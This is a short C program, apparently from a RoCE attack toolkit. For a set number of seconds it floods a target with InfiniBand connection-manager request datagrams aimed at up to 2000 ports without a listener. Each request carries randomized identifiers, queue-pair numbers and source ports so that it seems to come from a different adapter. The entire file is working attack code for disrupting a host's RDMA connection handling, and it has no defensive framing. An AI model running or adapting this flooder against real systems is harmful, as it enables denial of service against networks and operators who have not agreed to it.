/*
 * Sends requests for connections to ports without a listener, each from another identifier, queue pair and adapter.
 *
 * usage: requests SECONDS FROM TO
 */
#include "roce.h"

enum { PORTS_WITHOUT_LISTENER = 2000 };

int main(int argc, char **argv)
{
	static struct sender sender;

	if (argc != 4)
		return 2;
	begin_attack(argv[1]);
	open_sender(&sender, argv[2], argv[3]);
	while (goes_on()) {
		unsigned char *req = put_mad(&sender, CM_REQ), *gids = req + 56, *head = req + 140;

		put(req, draw(&sender), 4);
		put(req + 8, 0x01060000 | (draw(&sender) % PORTS_WITHOUT_LISTENER + 1), 8);
		put(req + 16, (uint64_t)draw(&sender) << 32 | draw(&sender), 8);
		put(req + 32, (draw(&sender) & 0xffffff) << 8 | 1, 4);
		put(req + 36, 1, 4);
		put(req + 40, 20 << 3, 4);
		put(req + 44, draw(&sender) & 0xffffff00, 4);
		req[47] = 20 << 3 | 7;
		put(req + 48, 0xffff, 2);
		req[50] = 3 << 4 | 7;
		req[51] = 15 << 4;
		put(gids + 10, 0xffff, 2);
		memcpy(gids + 12, &sender.from.sin_addr, 4);
		put(gids + 26, 0xffff, 2);
		memcpy(gids + 28, &sender.to.sin_addr, 4);
		req[93] = 64;
		head[1] = 0x40;
		put(head + 2, 40000 + draw(&sender) % 1000, 2);
		memcpy(head + 16, &sender.from.sin_addr, 4);
		memcpy(head + 32, &sender.to.sin_addr, 4);
		launch_mad(&sender);
	}
	tell();
	return 0;
}
